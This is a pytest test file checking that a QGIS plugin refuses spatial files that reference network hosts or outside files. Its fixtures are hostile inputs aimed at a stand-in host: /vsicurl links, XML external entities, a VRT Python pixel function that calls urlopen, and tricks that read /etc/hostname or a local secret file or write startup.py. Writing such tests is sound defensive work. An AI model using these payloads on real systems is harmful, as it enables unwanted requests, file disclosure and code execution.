"""Files that name places on a network are refused, at every door, before anything is asked for."""

from __future__ import annotations

import hashlib
import json
import sqlite3
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from osgeo import gdal, ogr
from qgis.core import (
    QgsProcessingAlgorithm,
    QgsProcessingContext,
    QgsProcessingException,
    QgsProject,
    QgsVectorLayer,
)

from tests.hostile_texts import SITE, Watch, watching
from wj_risk_plugin.bridge.files.local_files import check_local
from wj_risk_plugin.core.messages import InputError
from wj_risk_plugin.gui.district import read_district

pytestmark = pytest.mark.usefixtures("qgis_app", "risk_provider")

LIST_OF_LAYERS = (
    '<OGRVRTDataSource><OGRVRTLayer name="shelters"><SrcDataSource>/vsicurl/{site}/a.gpkg'
    "</SrcDataSource><SrcLayer>shelters</SrcLayer></OGRVRTLayer></OGRVRTDataSource>"
)
LIST_OF_RASTERS = (
    '<VRTDataset rasterXSize="10" rasterYSize="10"><GeoTransform>113,0.1,0,25,0,-0.1'
    '</GeoTransform><VRTRasterBand dataType="Float32" band="1"><SimpleSource><SourceFilename>'
    "/vsicurl/{site}/a.tif</SourceFilename></SimpleSource></VRTRasterBand></VRTDataset>"
)
SERVICE = (
    '<GDAL_WMS><Service name="TMS"><ServerUrl>{site}/${{z}}/${{x}}/${{y}}.png</ServerUrl></Service>'
    "<DataWindow><UpperLeftX>113</UpperLeftX><UpperLeftY>25</UpperLeftY><LowerRightX>114"
    "</LowerRightX><LowerRightY>24</LowerRightY><TileLevel>2</TileLevel><SizeX>512</SizeX>"
    "<SizeY>512</SizeY></DataWindow><Projection>EPSG:4490</Projection><BandsCount>1</BandsCount>"
    "<DataType>Byte</DataType></GDAL_WMS>"
)
LINK = {"type": "link", "properties": {"href": f"{SITE}/crs", "type": "ogcwkt"}}


def geojson(crs: Any = None, crs_of_shape: Any = None, note: str = "") -> str:
    shape = {"type": "Point", "coordinates": [113.5, 24.8]}
    if crs_of_shape:
        shape["crs"] = crs_of_shape
    feature = {"type": "Feature", "properties": {"id": "1", "name": note}, "geometry": shape}
    whole = {"type": "FeatureCollection", "features": [feature]}
    return json.dumps({**whole, "crs": crs} if crs else whole)


def text(name: str, content: str) -> Callable[[Path], Path]:
    def write(folder: Path) -> Path:
        path = folder / name
        path.write_text(content)
        return path

    return write


def raster(folder: Path) -> Path:
    path = folder / "dem.tif"
    made = gdal.GetDriverByName("GTiff").Create(str(path), 10, 10, 1, gdal.GDT_Float32)
    made.SetGeoTransform([113, 0.1, 0, 25, 0, -0.1])
    made.FlushCache()
    return path


def overviews_inside(folder: Path) -> Path:
    path = raster(folder)
    made = gdal.Open(str(path), gdal.GA_Update)
    made.SetMetadata({"OVERVIEW_FILE": f"/vsicurl/{SITE}/inside.tif"}, "OVERVIEWS")
    made.FlushCache()
    return path


def beside_raster(ending: str, content: str) -> Callable[[Path], Path]:
    def write(folder: Path) -> Path:
        path = raster(folder)
        Path(f"{path}{ending}").write_text(content)
        return path

    return write


def in_archive(folder: Path) -> Path:
    path = folder / "shelters.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("shelters.geojson", geojson(LINK))
    return path


def listed_list(folder: Path) -> Path:
    inner = text("inner.tif", LIST_OF_RASTERS.format(site=SITE))(folder)
    outer = LIST_OF_RASTERS.replace("/vsicurl/{site}/a.tif", inner.name)
    return text("outer.vrt", outer)(folder)


def with_schema(folder: Path) -> Path:
    loads = f'<xs:include schemaLocation="{SITE}/schema.xsd"/>'
    text("shelters.xsd", f'<xs:schema xmlns:xs="x">{loads}</xs:schema>')(folder)
    return text("shelters.gml", COLLECTION.format(declared=""))(folder)


def pointer_in_archive(folder: Path) -> Path:
    path = folder / "shelters.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("dem.tif", POINTER.format(site=SITE, folder=folder))
    return path


def virtual_table(folder: Path) -> Path:
    """A view of another file's lines, as a layer."""
    (folder / "secret.txt").write_text("secret\nTOPSECRET\n")
    path = folder / "shelters.sqlite"
    made = ogr.GetDriverByName("SQLite").CreateDataSource(str(path))
    made.CreateLayer("shelters", None, ogr.wkbPoint)
    made = None
    with sqlite3.connect(path) as connection:
        connection.execute("PRAGMA writable_schema = ON")
        create = f"CREATE VIRTUAL TABLE v USING VirtualText(''{folder}/secret.txt'',''UTF-8'',1)"
        connection.execute(
            f"INSERT INTO sqlite_master VALUES('table','v','v',0,'{create}')"  # nosec B608
        )
    connection.close()
    return path


def schema_as_list(source: str, query: str = "") -> str:
    return (
        '<OGRVRTDataSource><OGRVRTLayer name="shelters"><SrcDataSource>'
        f"{source}</SrcDataSource>{query}</OGRVRTLayer></OGRVRTDataSource>"
    )


#: Writes and reads what it names, under the name of a raster.
POINTER = (
    "<MRF_META><CachedSource><Source>/vsicurl/{site}/source.tif</Source></CachedSource><Raster>"
    '<Size x="512" y="512" c="1"/><DataFile>{folder}/startup.py</DataFile>'
    "<IndexFile>/vsicurl/{site}/index</IndexFile></Raster></MRF_META>"
)
COLLECTION = (
    '<?xml version="1.0"?>{declared}<ogr:FeatureCollection xmlns:ogr="http://ogr.maptools.org/" '
    'xmlns:gml="http://www.opengis.net/gml"><gml:featureMember><ogr:shelters fid="s.0">'
    "<ogr:geometryProperty><gml:Point><gml:coordinates>113.5,24.8</gml:coordinates></gml:Point>"
    "</ogr:geometryProperty></ogr:shelters></gml:featureMember></ogr:FeatureCollection>"
)
ENTITIES = f'<!DOCTYPE x SYSTEM "{SITE}/x.dtd" [<!ENTITY e SYSTEM "{SITE}/entity">]>'
OF_SURVEYORS = (
    f'<?xml version="1.0"?>{ENTITIES}<AX_Bestandsdatenauszug xmlns:gml="http://www.opengis.net/gml'
    '/3.2"><!-- NAS-Operationen AAA-Fachschema --><n>&e;</n></AX_Bestandsdatenauszug>'
)
FEATURES_SERVICE = (
    '<wfs:WFS_Capabilities version="1.1.0" xmlns:wfs="http://www.opengis.net/wfs" '
    'xmlns:ows="http://www.opengis.net/ows" xmlns:xlink="http://www.w3.org/1999/xlink">'
    '<ows:OperationsMetadata><ows:Operation name="GetCapabilities"><ows:DCP><ows:HTTP>'
    f'<ows:Get xlink:href="{SITE}/wfs?"/></ows:HTTP></ows:DCP></ows:Operation>'
    "</ows:OperationsMetadata></wfs:WFS_Capabilities>"
)
OVERLAY = (
    '<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><GroundOverlay><Icon>'
    f"<href>{SITE}/overlay.png</href></Icon><LatLonBox><north>25</north><south>24</south>"
    "<east>114</east><west>113</west></LatLonBox></GroundOverlay></kml>"
)
NESTED = "&lt;OGRVRTDataSource&gt;&amp;#47;vsicurl/{site}/nested&lt;/OGRVRTDataSource&gt;"
GEOCODE = (
    "<SrcSQL dialect=\"SQLITE\">SELECT ogr_geocode('x','name','QUERY_TEMPLATE='||char(104))"
    "</SrcSQL>"
)
PROCESS = f'{{"process":"{SITE}/process","inputs":{{"data":{{"collection":"{SITE}/all"}}}}}}'

VECTORS = {
    "a pointer as a table": text("shelters.csv", POINTER.format(site=SITE, folder="/nowhere")),
    "entities as a GeoJSON": text("shelters.geojson", OF_SURVEYORS),
    "entities of surveyors": text("shelters.gml", OF_SURVEYORS),
    "entities of a collection": text("shelters.gml", COLLECTION.format(declared=ENTITIES)),
    "entities in Interlis": text("shelters.xtf", f"{ENTITIES}<TRANSFER xmlns='interlis.ch'/>"),
    "a service as a GML": text("shelters.gml", FEATURES_SERVICE),
    "a service as a GeoJSON": text("shelters.geojson", FEATURES_SERVICE),
    "a process": text("shelters.moaw", PROCESS),
    "a picture elsewhere": text("shelters.kml", OVERLAY),
    "a schema": with_schema,
    "a list in a list": text("shelters.vrt", schema_as_list(NESTED.format(site=SITE))),
    "a list in an archive": text("shelters.vrt", schema_as_list("/vsizip/{x.dat}/in.vrt")),
    "a list of a server": text("shelters.vrt", schema_as_list("PG:host=127.0.0.1 port=9")),
    "a list on a share": text("shelters.vrt", schema_as_list("\\\\127.0.0.1\\share\\a.shp")),
    "a list with a query": text("shelters.vrt", schema_as_list("a.csv", GEOCODE)),
    "a path as a system": text(
        "shelters.geojson", geojson({"type": "name", "properties": {"name": "/etc/hostname"}})
    ),
    "a pointer in an archive": pointer_in_archive,
    "lines of another file": virtual_table,
    "a link": text("shelters.geojson", geojson(LINK)),
    "an address": text("shelters.geojson", geojson({"type": "url", "properties": {"url": SITE}})),
    "a link in a shape": text("shelters.geojson", geojson(crs_of_shape=LINK)),
    "a link in other letters": text(
        "shelters.geojson", geojson(LINK).replace('"crs"', '"\\u0063r\\u0073"')
    ),
    "layers as a GeoPackage": text("shelters.gpkg", LIST_OF_LAYERS.format(site=SITE)),
    "layers as a GeoJSON": text("shelters.geojson", LIST_OF_LAYERS.format(site=SITE)),
    "layers as a shapefile": text("shelters.shp", LIST_OF_LAYERS.format(site=SITE)),
    "layers as a table": text("shelters.csv", LIST_OF_LAYERS.format(site=SITE)),
    "layers as a list": text("shelters.vrt", LIST_OF_LAYERS.format(site=SITE)),
    "an archive": in_archive,
}

BAND = (
    '<VRTDataset rasterXSize="4" rasterYSize="1"><VRTRasterBand dataType="Byte" band="1"{more}>'
    "{source}</VRTRasterBand></VRTDataset>"
)
IMAGE = (
    '<?xml version="1.0"?><Product_Observational xmlns="http://pds.nasa.gov/pds4/pds/v1">'
    "<File_Area_Observational><File><file_name>../secret.csv</file_name></File>"
    "</File_Area_Observational></Product_Observational>"
)
INLINE = SERVICE.format(site=SITE).replace("://", "&amp;#58;//").replace("<", "&lt;")
PYTHON = (
    "<PixelFunctionType>f</PixelFunctionType><PixelFunctionLanguage>Python</PixelFunctionLanguage>"
    "<PixelFunctionCode>import urllib.request; urllib.request.urlopen('{site}/python')"
    "</PixelFunctionCode>"
)

RASTERS = {
    "a pointer": text("dem.tif", POINTER.format(site=SITE, folder="/nowhere")),
    "a service in a list": text(
        "dem.vrt",
        BAND.format(
            more="",
            source=f"<SimpleSource><SourceFilename>{INLINE}</SourceFilename></SimpleSource>",
        ),
    ),
    "bytes of a file": text(
        "dem.vrt",
        BAND.format(
            more=' subClass="VRTRawRasterBand"',
            source="<SourceFilename>/etc/hostname</SourceFilename>",
        ),
    ),
    "a program": text(
        "dem.vrt",
        BAND.format(more=' subClass="VRTDerivedRasterBand"', source=PYTHON.format(site=SITE)),
    ),
    "an image of a table": text("dem.xml", IMAGE),
    "rasters": text("dem.tif", LIST_OF_RASTERS.format(site=SITE)),
    "rasters as a list": text("dem.vrt", LIST_OF_RASTERS.format(site=SITE)),
    "escaped": text("dem.vrt", LIST_OF_RASTERS.format(site=SITE).replace("/vsi", "&#47;vsi")),
    "a list in a list": listed_list,
    "a service": text("dem.tif", SERVICE.format(site=SITE)),
    "overviews inside": overviews_inside,
    "overviews beside": beside_raster(".ovr", LIST_OF_RASTERS.format(site=SITE)),
    "overviews noted beside": beside_raster(
        ".aux.xml",
        '<PAMDataset><Metadata domain="OVERVIEWS"><MDI key="OVERVIEW_FILE">'
        f"/vsicurl/{SITE}/noted.tif</MDI></Metadata></PAMDataset>",
    ),
}


@pytest.fixture
def watch() -> Iterator[Watch]:
    with watching() as watch:
        watch.forget()
        yield watch


def test_the_watch_sees_what_such_a_file_loads(watch: Watch, tmp_path: Path) -> None:
    path = VECTORS["a link"](tmp_path)
    QgsVectorLayer(str(path), "shelters", "ogr")
    assert "/crs" in watch.requests


@pytest.mark.parametrize("which", VECTORS)
def test_a_layer_that_names_a_network_is_refused_by_name(
    watch: Watch, tmp_path: Path, which: str
) -> None:
    import processing

    path = VECTORS[which](tmp_path)
    out = tmp_path / "problems.gpkg"
    # the layers of several, the single layer, the folder and the window
    for inputs in ({"LAYERS": [str(path)]}, {"LAYERS": str(path)}):
        with pytest.raises(QgsProcessingException, match=path.stem):
            processing.run("wjrisk:checkdata", {**inputs, "OUTPUT_PROBLEMS": str(out)})
    with pytest.raises(QgsProcessingException, match=path.stem):
        processing.run(
            "wjrisk:facilitycoverage",
            {"FACILITIES": str(path), "OUTPUT_FACILITIES": "TEMPORARY_OUTPUT"},
        )
    if path.suffix in (".geojson", ".gpkg", ".shp"):
        with pytest.raises(InputError, match=path.stem):
            read_district(str(tmp_path), "")
        with pytest.raises(InputError, match=path.stem):
            read_district(str(path), "")
    assert not watch.all()
    assert not out.exists()


@pytest.mark.parametrize("which", RASTERS)
def test_a_raster_that_names_a_network_is_refused_by_name(
    watch: Watch, tmp_path: Path, which: str
) -> None:
    import processing

    path = RASTERS[which](tmp_path)
    district = text("shelters.geojson", geojson())(tmp_path)
    out = tmp_path / "problems.gpkg"
    inputs = {"LAYERS": [str(district)], "DEM": str(path), "OUTPUT_PROBLEMS": str(out)}
    with pytest.raises(QgsProcessingException, match=path.stem):
        processing.run("wjrisk:checkdata", inputs)
    with pytest.raises(InputError, match=path.stem):
        read_district(str(district), str(path))
    assert not watch.all()
    assert not out.exists()


def test_what_only_looks_like_it_is_read(watch: Watch, tmp_path: Path) -> None:
    import processing

    note = f"<VRTDatas {SITE} crs http://example.org /vsicurl/"
    named = {"type": "name", "properties": {"name": "urn:ogc:def:crs:OGC:1.3:CRS84"}}
    district = text("shelters.geojson", geojson(named, note=note))(tmp_path)
    dem = raster(tmp_path)
    mosaic = text("mosaic.vrt", LIST_OF_RASTERS.replace("/vsicurl/{site}/a.tif", dem.name))
    Path(f"{dem}.aux.xml").write_text(
        '<PAMDataset xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><Metadata>'
        '<MDI key="source">https://example.org/dem</MDI></Metadata></PAMDataset>'
    )
    check_local(dem)
    check_local(mosaic(tmp_path))
    results = processing.run(
        "wjrisk:checkdata", {"LAYERS": [str(district)], "OUTPUT_PROBLEMS": "TEMPORARY_OUTPUT"}
    )
    assert results["PROBLEMS"] > 0
    assert not watch.all()


def test_a_pointer_under_the_name_of_a_raster_writes_nothing(watch: Watch, tmp_path: Path) -> None:
    import processing

    path = text("elev.tif", POINTER.format(site=SITE, folder=tmp_path))(tmp_path)
    points = text("shelters.geojson", geojson())(tmp_path)
    before = sorted(tmp_path.iterdir())
    for name, inputs in (
        ("checkdata", {"LAYERS": [str(points)], "OUTPUT_PROBLEMS": "TEMPORARY_OUTPUT"}),
        ("lookoutcoverage", {"LOOKOUTS": str(points), "OUTPUT_LOOKOUTS": "TEMPORARY_OUTPUT"}),
    ):
        with pytest.raises(QgsProcessingException, match="elev"):
            processing.run(f"wjrisk:{name}", {**inputs, "DEM": str(path)})
    assert sorted(tmp_path.iterdir()) == before
    assert not watch.all()


def test_a_layer_of_the_project_is_looked_at_by_its_file(
    watch: Watch, project: QgsProject, tmp_path: Path
) -> None:
    import processing

    good = text("shelters.geojson", geojson())(tmp_path)
    layer = QgsVectorLayer(str(good), "shelters", "ogr")
    assert layer.isValid()
    project.addMapLayer(layer)
    good.write_text(geojson(LINK))  # somebody put another file there
    for given in (layer, layer.id()):
        with pytest.raises(QgsProcessingException, match="shelters"):
            processing.run(
                "wjrisk:facilitycoverage",
                {"FACILITIES": given, "OUTPUT_FACILITIES": "TEMPORARY_OUTPUT"},
            )
    assert not watch.all()


def test_settings_of_others_change_no_file_that_is_read(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    import processing

    path = tmp_path / "shelters.gpkg"
    gdal.VectorTranslate(
        str(path), str(text("points.geojson", geojson())(tmp_path)), layerName="shelters"
    )
    whole = hashlib.sha256(path.read_bytes()).hexdigest()
    monkeypatch.setenv("OGR_SQLITE_PRAGMA", "journal_mode=WAL")
    monkeypatch.setenv("GDAL_VRT_ENABLE_PYTHON", "YES")
    for inputs in ({"DISTRICT": str(path)}, {"LAYERS": [f"{path}|layername=shelters"]}):
        processing.run("wjrisk:checkdata", {**inputs, "OUTPUT_PROBLEMS": "TEMPORARY_OUTPUT"})
    assert hashlib.sha256(path.read_bytes()).hexdigest() == whole
    assert gdal.GetConfigOption("GDAL_VRT_ENABLE_PYTHON") is None
    assert not list(tmp_path.glob("*-wal"))


def test_qgis_opens_no_parameter_before_it_is_looked_at(
    watch: Watch, risk_provider: Any, tmp_path: Path
) -> None:
    """As qgis_process asks each parameter, before it asks the algorithm."""
    table = text("shelters.gml", FEATURES_SERVICE)(tmp_path)
    pointer = text("dem.tif", POINTER.format(site=SITE, folder=tmp_path))(tmp_path)
    good = text("good.geojson", geojson())(tmp_path)
    before = sorted(tmp_path.iterdir())
    context, asked = QgsProcessingContext(), 0
    for algorithm in risk_provider.algorithms():
        for definition in algorithm.parameterDefinitions():
            if definition.isDestination() or definition.type() not in (
                "source",
                "raster",
                "multilayer",
            ):
                continue
            asked += 1
            for path in (table, pointer):
                for value in (str(path), [str(path)]):
                    definition.checkValueIsAcceptable(value, context)
            # QGIS's own C++ asks the same question
            parameters = {definition.name(): str(pointer)}
            QgsProcessingAlgorithm.checkParameterValues(algorithm, parameters, context)
    assert asked > 40
    assert not watch.all()
    assert sorted(tmp_path.iterdir()) == before
    algorithm = risk_provider.algorithm("facilitycoverage")
    facilities = algorithm.parameterDefinition("FACILITIES")
    assert facilities.checkValueIsAcceptable(str(good), context)
    assert not facilities.checkValueIsAcceptable(str(tmp_path / "gone.gpkg"), context)
